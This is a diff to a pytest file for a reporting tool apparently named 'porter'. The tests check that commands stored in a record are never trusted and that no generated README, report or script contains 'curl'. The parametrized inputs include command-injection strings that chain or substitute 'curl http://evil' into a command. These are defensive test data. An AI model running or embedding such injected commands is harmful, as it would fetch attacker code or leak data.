@@ -167,7 +167,7 @@ def test_commands_of_a_record_are_never_believed(here: Path, command: Porter) ->
     assert read_record(here / "out").commands == wanted
     texts = [(here / "out" / name).read_text() for name in ("README.md", "README.zh.md", "report.html", "reproduce.sh")]
     assert not [text for text in texts if "curl" in text]
-    assert wanted["evaluate"] in texts[0]
+    assert "porter evaluate --data DATA --labels LABELS --batch-sizes 1 --threads 1 --out OUT" in texts[0]
 
 
 @pytest.mark.parametrize("text", [FORGED, "porter report out; curl http://evil", "porter report $(curl http://evil)"])
